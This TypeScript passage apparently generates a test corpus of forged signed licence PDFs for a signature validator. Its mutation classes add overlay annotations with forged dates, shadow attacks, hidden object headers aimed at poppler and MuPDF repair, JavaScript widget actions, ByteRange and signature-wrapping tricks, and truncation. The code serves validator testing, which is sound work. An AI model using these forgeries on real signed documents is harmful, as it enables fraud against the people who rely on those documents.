          { num: free, body: "<</Type /OCG /Name (Seal)>>" },
          {
            num: g.catalog,
            body: setKey(
              head(g, g.catalog),
              "OCProperties",
              `<</OCGs [${ref(free)}] /D <</OFF [${ref(free)}]>>>>`,
            ),
          },
        ],
      }),
  },
  {
    name: "seal-appearance-redefined",
    gain: "the seal's appearance redrawn (another department's seal, or none)",
    visible: BOTH,
    make: (g) =>
      appendUpdate(g.bytes, [
        {
          num: g.sealAppearance,
          body: streamBody(
            "/Type /XObject /Subtype /Form /BBox [0 0 119 119]",
            bytes("0 0 1 rg 10 10 99 99 re f\n"),
          ),
        },
      ]),
  },

  // Annotations and forms drawn over the licence (certification attacks).
  {
    name: "annot-freetext-overlay",
    gain: "a FreeText annotation with its own appearance covers the date with a forged one",
    visible: BOTH,
    make: (g) => {
      const [annot, ap] = [nextNum(g), nextNum(g, 1)];
      const b = dateBox(g);
      return appendUpdate(g.bytes, [
        { num: ap, body: forgedPatch(g, b.w, b.h) },
        {
          num: annot,
          body: `<</Type /Annot /Subtype /FreeText /Rect ${rect(b)} /F 4 /P ${ref(g.page)} /Contents (2099) /DA (/Helv 11 Tf 0 g) /AP <</N ${ref(ap)}>>>>`,
        },
        { num: g.page, body: addToAnnots(g, annot) },
      ]);
    },
  },
  {
    name: "annot-stamp-overlay",
    gain: "a Stamp annotation painted over the licence number",
    visible: BOTH,
    make: (g) => {
      const [annot, ap] = [nextNum(g), nextNum(g, 1)];
      return appendUpdate(g.bytes, [
        {
          num: ap,
          body: streamBody(
            "/Type /XObject /Subtype /Form /BBox [0 0 200 60]",
            bytes("1 0 0 rg 0 0 200 60 re f\n"),
          ),
        },
        {
          num: annot,
          body: `<</Type /Annot /Subtype /Stamp /Name /Approved /Rect [300 300 500 360] /F 4 /P ${ref(g.page)} /AP <</N ${ref(ap)}>>>>`,
        },
        { num: g.page, body: addToAnnots(g, annot) },
      ]);
    },
  },
  {
    name: "annot-square-whiteout",
    gain: "a white Square annotation hides the validity date",
    visible: BOTH,
    make: (g) => {
      const [annot, ap] = [nextNum(g), nextNum(g, 1)];
      const b = dateBox(g);
      return appendUpdate(g.bytes, [
        {
          num: ap,
          body: streamBody(
            `/Type /XObject /Subtype /Form /BBox [0 0 ${b.w} ${b.h}]`,
            bytes(`1 1 1 rg 0 0 ${b.w} ${b.h} re f\n`),
          ),
        },
        {
          num: annot,
          body: `<</Type /Annot /Subtype /Square /Rect ${rect(b)} /F 4 /C [1 1 1] /IC [1 1 1] /P ${ref(g.page)} /AP <</N ${ref(ap)}>>>>`,
        },
        { num: g.page, body: addToAnnots(g, annot) },
      ]);
    },
  },
  {
    name: "annot-widget-overlay",
    gain: "a new text-field widget (with appearance) over the date shows a forged one",
    visible: BOTH,
    make: (g) => {
      const [field, ap] = [nextNum(g), nextNum(g, 1)];
      const b = dateBox(g);
      const form = head(g, g.acroForm);
      return appendUpdate(g.bytes, [
        { num: ap, body: forgedPatch(g, b.w, b.h) },
        {
          num: field,
          body: `<</Type /Annot /Subtype /Widget /FT /Tx /T (validity) /V (2099) /Rect ${rect(b)} /F 4 /P ${ref(g.page)} /AP <</N ${ref(ap)}>>>>`,
        },
        {
          num: g.acroForm,
          body: setKey(
            form,
            "Fields",
            `[${refsIn(getKey(form, "Fields")).map(ref).join(" ")} ${ref(field)}]`,
          ),
        },
        { num: g.page, body: addToAnnots(g, field) },
      ]);
    },
  },
  {
    name: "sig-widget-overlay",
    gain: "a new (document timestamp) signature widget, the kind PAdES lets follow, whose appearance prints a forged date",
    visible: BOTH,
    make: (g) => {
      const [field, ap, sig] = [nextNum(g), nextNum(g, 1), nextNum(g, 2)];
      const b = dateBox(g);
      const form = head(g, g.acroForm);
      return appendUpdate(g.bytes, [
        { num: ap, body: forgedPatch(g, b.w, b.h) },
        {
          num: sig,
          body: `<</Type /DocTimeStamp /Filter /Adobe.PPKLite /SubFilter /ETSI.RFC3161 /ByteRange [0 0 0 0] /Contents <${"00".repeat(64)}>>>`,
        },
        {
          num: field,
          body: `<</Type /Annot /Subtype /Widget /FT /Sig /T (DocTimeStamp1) /V ${ref(sig)} /Rect ${rect(b)} /F 132 /P ${ref(g.page)} /AP <</N ${ref(ap)}>>>>`,
        },
        {
          num: g.acroForm,
          body: setKey(
            form,
            "Fields",
            `[${refsIn(getKey(form, "Fields")).map(ref).join(" ")} ${ref(field)}]`,
          ),
        },
        { num: g.page, body: addToAnnots(g, field) },
      ]);
    },
  },
  {
    name: "dss-plus-content",
    gain: "a permitted-looking DSS update that also carries the forged page content",
    visible: BOTH,
    make: (g) => {
      const dss = nextNum(g);
      return appendUpdate(g.bytes, [
        { num: dss, body: "<</Certs [] /CRLs [] /OCSPs []>>" },
        { num: g.catalog, body: setKey(head(g, g.catalog), "DSS", ref(dss)) },
        redefineContent(g),
      ]);
    },
  },
  {
    name: "doc-timestamp-invisible",
    gain: "nothing a viewer draws: a real document timestamp whose zero-size widget carries a forged appearance (PAdES permits the timestamp)",
    make: (g, ctx) => docTimestampUpdate(g, ctx, { rect: () => "[0 0 0 0]" }),
  },
  {
    name: "doc-timestamp-visible",
    gain: "a real document timestamp whose widget prints a forged date over the licence",
    visible: BOTH,
    make: (g, ctx) => docTimestampUpdate(g, ctx, { rect: () => rect(dateBox(g)) }),
  },
  {
    name: "doc-timestamp-indirect-rect",
    gain: "a real document timestamp whose widget /Rect is an indirect array: readers that only look at direct arrays think it draws nothing",
    visible: BOTH,
    make: (g, ctx) =>
      docTimestampUpdate(g, ctx, {
        rect: (free) => ref(free),
        extra: (free) => [{ num: free, body: rect(dateBox(g)) }],
      }),
  },
  {
    name: "doc-timestamp-indirect-rect-numbers",
    gain: "a real document timestamp whose widget /Rect holds indirect numbers: read as zeros, they look like a zero-size widget",
    visible: BOTH,
    make: (g, ctx) => {
      const b = dateBox(g);
      const corners = [b.x, b.y, b.x + b.w, b.y + b.h];
      return docTimestampUpdate(g, ctx, {
        rect: (free) => `[${corners.map((_, k) => ref(free + k)).join(" ")}]`,
        extra: (free) => corners.map((c, k) => ({ num: free + k, body: String(c) })),
      });
    },
  },
  {
    name: "doc-timestamp-noview-print",
    gain: "a real document timestamp whose widget is flagged NoView but Print: no screen shows the forged date, every print does",
    make: (g, ctx) => docTimestampUpdate(g, ctx, { rect: () => rect(dateBox(g)), flags: 4 | 32 }),
  },
  {
    name: "prepared-note-filled-with-timestamp",
    gain: "the prepared note field filled with a trusted timestamp token (no /Type) and a forged note: a plain licence posing as an annotated copy",
    visible: ["plain"],
    make: (g, ctx) => noteFilledWithTimestamp(g, ctx, ""),
  },
  {
    name: "prepared-note-filled-with-timestamp-typed",
    gain: "as prepared-note-filled-with-timestamp, the signature dictionary typed /Sig",
    visible: ["plain"],
    make: (g, ctx) => noteFilledWithTimestamp(g, ctx, "/Type /Sig"),
  },
  {
    name: "doc-timestamp-widget-javascript",
    gain: "a hidden document timestamp widget whose page-open action runs JavaScript (Acrobat can draw forged fields with it)",
    named: "markup",
    make: (g, ctx) =>
      docTimestampUpdate(g, ctx, {
        rect: () => "[0 0 0 0]",
        flags: 2 | 4,
        widget:
          " /AA <</PO <</S /JavaScript /JS (this.addField\\('v','text',0,[300,200,500,230]\\).value='2099';)>>>>",
      }),
  },
  {
    name: "doc-timestamp-reversed-rect",
    gain: "a real document timestamp whose widget /Rect has its corners swapped (viewers normalise it and draw)",
    visible: BOTH,
    make: (g, ctx) => {
      const b = dateBox(g);
      return docTimestampUpdate(g, ctx, { rect: () => `[${b.x + b.w} ${b.y + b.h} ${b.x} ${b.y}]` });
    },
  },
  {
    name: "annot-link-javascript",
    gain: "an invisible link whose click runs JavaScript",
    visible: BOTH,
    make: (g) => {
      const annot = nextNum(g);
      return appendUpdate(g.bytes, [
        {
          num: annot,
          body: `<</Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A <</S /JavaScript /JS (app.alert\\(1\\))>>>>`,
        },
        { num: g.page, body: addToAnnots(g, annot) },
      ]);
    },
  },
  {
    name: "form-field-value-needappearances",
    gain: "a text field whose forged value the viewer draws itself (/NeedAppearances)",
    visible: BOTH,
    make: (g) => {
      const field = nextNum(g);
      const b = dateBox(g);
      const form = head(g, g.acroForm);
      const newForm = setKey(
        setKey(
          setKey(form, "Fields", `[${refsIn(getKey(form, "Fields")).map(ref).join(" ")} ${ref(field)}]`),
          "NeedAppearances",
          "true",
        ),
        "DA",
        "(/Helv 11 Tf 0 g)",
      );
      return appendUpdate(g.bytes, [
        {
          num: field,
          body: `<</Type /Annot /Subtype /Widget /FT /Tx /T (valid) /V (VALID UNTIL 2099) /DA (/Helv 11 Tf 0 g) /Rect ${rect(b)} /F 4 /P ${ref(g.page)}>>`,
        },
        {
          num: g.acroForm,
          body: setKey(
            newForm,
            "DR",
            "<</Font <</Helv <</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>>>>>",
          ),
        },
        { num: g.page, body: addToAnnots(g, field) },
      ]);
    },
  },
  {
    name: "sig-field-value-replaced",
    gain: "the note field's /V points at a forged signature dictionary (a plain copy posing as annotated, or a swapped note signature)",
    make: (g) => {
      const sig = nextNum(g);
      return appendUpdate(g.bytes, [
        {
          num: sig,
          body: `<</Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 0 0 0] /Contents <${"00".repeat(64)}>>>`,
        },
        { num: g.noteWidget, body: setKey(head(g, g.noteWidget), "V", ref(sig)) },
      ]);
    },
  },
  {
    name: "appearance-swap-seal",
    gain: "the seal widget's /AP points at a forged drawing",
    visible: BOTH,
    make: (g) => {
      const ap = nextNum(g);
      return appendUpdate(g.bytes, [
        {
          num: ap,
          body: streamBody(
            "/Type /XObject /Subtype /Form /BBox [0 0 119 119]",
            bytes("0 0.5 0 rg 0 0 119 119 re f\n"),
          ),
        },
        { num: g.sealWidget, body: setKey(head(g, g.sealWidget), "AP", `<</N ${ref(ap)}>>`) },
      ]);
    },
  },
  {
    name: "appearance-swap-note",
    gain: "the note widget shown (flag cleared) with a forged note: any period, any purpose",
    visible: BOTH,
    make: (g) => {
      const ap = nextNum(g);
      return appendUpdate(g.bytes, [
        { num: ap, body: forgedPatch(g, 538, 20, 9) },
        {
          num: g.noteWidget,
          body: setKey(setKey(head(g, g.noteWidget), "AP", `<</N ${ref(ap)}>>`), "F", "4"),
        },
      ]);
    },
  },

  // Shadow attacks (Mainka et al.): content prepared before signing, switched on or off afterwards.
  {
    name: "shadow-hide-note",
    gain: "the note widget flagged hidden: an annotated copy's use restriction disappears",
    visible: ["annotated"],
    make: (g) =>
      appendUpdate(g.bytes, [{ num: g.noteWidget, body: setKey(head(g, g.noteWidget), "F", "134") }]),
  },
  {
    name: "shadow-replace-note-appearance",
    gain: "the signed note appearance object redefined in place: a forged note in the approved place",
    visible: ["annotated"],
    make: (g) => appendUpdate(g.bytes, [{ num: g.noteAppearance, body: forgedPatch(g, 538, 20, 9) }]),
  },
  {
    name: "shadow-hide-and-replace-note",
    gain: "the prepared (hidden, empty) note redefined and switched on: a plain licence posing as an annotated copy",
    visible: BOTH,
    make: (g) =>
      appendUpdate(g.bytes, [
        { num: g.noteAppearance, body: forgedPatch(g, 538, 20, 9) },
        { num: g.noteWidget, body: setKey(head(g, g.noteWidget), "F", "4") },
      ]),
  },
  {
    name: "docmdp-removed",
    gain: "the certification's /Perms removed: later changes look permitted to readers",
    make: (g) =>
      appendUpdate(g.bytes, [{ num: g.catalog, body: setKey(head(g, g.catalog), "Perms", undefined) }]),
  },
  {
    name: "info-redefined",
    gain: "the document information (title, identifier) replaced with another licence's",
    make: (g) =>
      appendUpdate(g.bytes, [
        {
          num: g.trailer.info ?? 0,
          body: "<</Title (Forged licence) /Subject (1.2.156.3005.2.11100000MB0143028R013.FORGED.001.5)>>",
        },
      ]),
  },
  {
    name: "benign-unreferenced-object",
    gain: "nothing visible: an update with one unreferenced object (control for what viewers ignore)",
    make: (g) => appendUpdate(g.bytes, [filler(g)]),
  },

  // A rebuild the validator accepted (red team 2): an invisible document timestamp whose widget refers to an object
  // no cross-reference data lists. poppler meets it while loading the form ("xref num … not found but needed, try to
  // reconstruct") and draws every appearance from then on from a scan of the file — so a header hidden in a listed
  // stream's data takes over even though nothing else is out of place.
  {
    name: "rebuild-trigger-dangling-reference",
    gain: "poppler rebuilds the cross-reference data by scanning from the form on (the trigger the next two rely on)",
    make: (g, ctx) =>
      docTimestampUpdate(g, ctx, { rect: () => "[0 0 0 0]", noAppearance: true, widget: " /TU 999999 0 R" }),
  },
  {
    name: "rebuild-trigger-hides-by-generation",
    gain: "the note (annotated copy) or the seal (plain) vanishes: poppler's rebuild keeps the highest generation, `N 1 obj` hidden in a stream",
    visible: BOTH,
    make: (g, ctx) =>
      docTimestampUpdate(g, ctx, {
        rect: () => "[0 0 0 0]",
        noAppearance: true,
        widget: " /TU 999999 0 R",
        extra: (free) => [
          hiddenInStream(free, `${g.kind === "annotated" ? g.noteAppearance : g.sealAppearance} 1 obj\n<<>>`),
        ],
      }),
  },
  {
    name: "rebuild-trigger-leading-zero-header",
    gain: "the seal drawn as a forged date patch: `00000000000S 0 obj` (a header a ten-digit scan missed) hidden in a stream",
    visible: BOTH,
    make: (g, ctx) =>
      docTimestampUpdate(g, ctx, {
        rect: () => "[0 0 0 0]",
        noAppearance: true,
        widget: " /TU 999999 0 R",
        extra: (free) => [
          hiddenInStream(free, concat(`00000000000${g.sealAppearance} 0 obj\n`, forgedPatch(g, 300, 18))),
        ],
      }),
  },
  {
    name: "hidden-header-long-generation",
    gain: "the page content redefined as `C 000000 obj` in a stream's data, waiting for any rebuild (a five-digit scan missed it)",
    make: (g) =>
      appendUpdate(g.bytes, [
        hiddenInStream(nextNum(g), concat(`${g.content} 000000 obj\n`, forgedContent(g))),
      ]),
  },

  {
    name: "hidden-header-vertical-tab",
    gain: "the seal (plain) or note (annotated) hidden from poppler's rebuild by `N\\v1\\vobj`: its scan takes vertical tab as a space",
    make: (g) =>
      appendUpdate(g.bytes, [
        hiddenInStream(
          nextNum(g),
          `${g.kind === "annotated" ? g.noteAppearance : g.sealAppearance}\v1\vobj\n<<>>`,
        ),
      ]),
  },
  // Red team 4: headers only MuPDF's repair reads. It lexes tokens (a comment is whitespace, one leading `+` belongs
  // to an integer) and, meeting a stream whose /Length is indirect, seeks the first `endstream` and lexes on from
  // there — so such a header in that stream's data redefines an object for it; our scan read neither form.
  {
    name: "hidden-header-comment-indirect-length",
    gain: "the page content redefined for MuPDF's repair as `C %x⏎0 obj`, after a fake endstream in a stream with an indirect /Length",
    make: (g) => appendUpdate(g.bytes, [...mupdfHidden(g, `${g.content} %x\n0 obj\n`)]),
  },
  {
    name: "hidden-header-plus-signs",
    gain: "the page content redefined for MuPDF's repair as `+C +0 obj` (its lexer reads a leading plus as part of an integer)",
    make: (g) => appendUpdate(g.bytes, [...mupdfHidden(g, `+${g.content} +0 obj\n`)]),
  },
  {
    name: "hidden-header-int-wrap",
    gain: "the page content redefined as `C+2^32 0 obj`: MuPDF's repair and poppler's atoi keep C ints, so it is object C",
    make: (g) => appendUpdate(g.bytes, [...mupdfHidden(g, `${g.content + 2 ** 32} 0 obj\n`)]),
  },
  {
    name: "hidden-object-stream-padded",
    gain: "the page content redefined by an object stream hidden in a stream, its /Type /ObjStm written /Obj#53tm after 300 bytes of padding",
    make: (g) => {
      const holder = nextNum(g);
      const stm = nextNum(g, 1);
      const hidden = concat(
        `\n${stm} 0 obj\n`,
        streamBody(
          ` /Pad (${"x".repeat(300)}) /Type /Obj#53tm /N 1 /First ${`${g.content} 0\n`.length}`,
          bytes(`${g.content} 0\n<</Length 0>>\n`),
          false,
        ),
        "\nendobj\n",
      );
      return appendUpdate(g.bytes, [{ num: holder, body: streamBody("", hidden, false) }]);
    },
  },
  {
    name: "hidden-xref-stream-root",
    // A probe that held (red team 2): with a glued section as trigger, MuPDF's rebuild still took the trailer's /Root
    // (it skips the holder's stream data) and poppler prefers trailers; kept to catch a viewer that starts using it.
    gain: "a catalog of forged pages named by an xref-stream dictionary hidden in a stream, for rebuilds that take /Root from one",
    make: (g) => appendUpdate(g.bytes, [hiddenCatalog(g)]),
  },

  // Byte ranges, signature wrapping, truncation.
  {
    name: "byterange-past-eof",
    gain: "a ByteRange claiming more bytes than the file has (USF: sloppy validators skip the check)",
    make: (g) => rewriteByteRange(g, ([a, b, c, d]) => [a ?? 0, b ?? 0, c ?? 0, (d ?? 0) + 1000]),
  },
  {
    name: "byterange-tail-unsigned",
    gain: "a ByteRange stopping 12 bytes short, so the file's end (startxref) is unsigned and free to point elsewhere",
    make: (g) => rewriteByteRange(g, ([a, b, c, d]) => [a ?? 0, b ?? 0, c ?? 0, (d ?? 0) - 12]),
  },
  {
    name: "byterange-gap-widened",
    gain: "the unsigned gap widened over the end of the signature dictionary",
    make: (g) => rewriteByteRange(g, ([a, b, c, d]) => [a ?? 0, b ?? 0, (c ?? 0) + 30, (d ?? 0) - 30]),
  },
  {
    name: "swa-object-in-contents-padding",
    gain: "a forged content object hidden in /Contents' zero padding (unsigned bytes inside the signed file)",
    visible: BOTH,
    make: (g) => {
      const p = contentsPadding(g);
      return overwrite(g.bytes, p.from, asciiObject(g, g.content), p.to);
    },
  },
  {
    name: "swa-padding-plus-glued-update",
    gain: "forged content in /Contents' padding, then an update with a glued section so viewers rebuild and use it",
    visible: BOTH,
    make: (g) => {
      const p = contentsPadding(g);
      return appendUpdate(overwrite(g.bytes, p.from, asciiObject(g, g.content), p.to), fillers(g), {
        xref: "glued",
      });
    },
  },
  {
    name: "truncated-60pct",
    gain: "a truncated file (a broken download passed off as checked)",
    visible: BOTH,
    make: (g) => g.bytes.slice(0, Math.floor(g.bytes.length * 0.6)),
  },
  {
    name: "truncated-eof-marker",
    gain: "the final %%EOF line removed",
    make: (g) => {
      const s = text(g.bytes);
      return g.bytes.slice(0, s.lastIndexOf("%%EOF"));
    },
  },
  {
    name: "truncated-last-revision",
    gain: "cut in the middle of the last revision (for an annotated copy, in the note's revision)",
    visible: BOTH,
    make: (g) => {
      const s = text(g.bytes);
      const eofs = [...s.matchAll(/%%EOF/gu)].map((m) => m.index ?? 0);
      const from = eofs.length > 1 ? (eofs[eofs.length - 2] ?? 0) : Math.floor(s.length * 0.9);
      return g.bytes.slice(0, Math.floor((from + s.length) / 2));
    },
  },
];

export interface CorpusFile {
  cls: MutationClass;
  kind: Genuine["kind"];
  bytes: Uint8Array;
}

/** Every class applied to both genuine copies. A class that cannot be generated is a generator bug: it throws. */
export async function generateCorpus(
  plain: Genuine,
  annotated: Genuine,
  ctx: MakeContext,
): Promise<CorpusFile[]> {
  const out: CorpusFile[] = [];
  for (const cls of CLASSES)
    for (const g of [plain, annotated]) {
      try {
        out.push({ cls, kind: g.kind, bytes: await cls.make(g, ctx) });
      } catch (e) {
        throw new Error(`${cls.name} (${g.kind}): ${e instanceof Error ? e.message : String(e)}`, {
          cause: e,
        });
      }
    }
  return out;
}
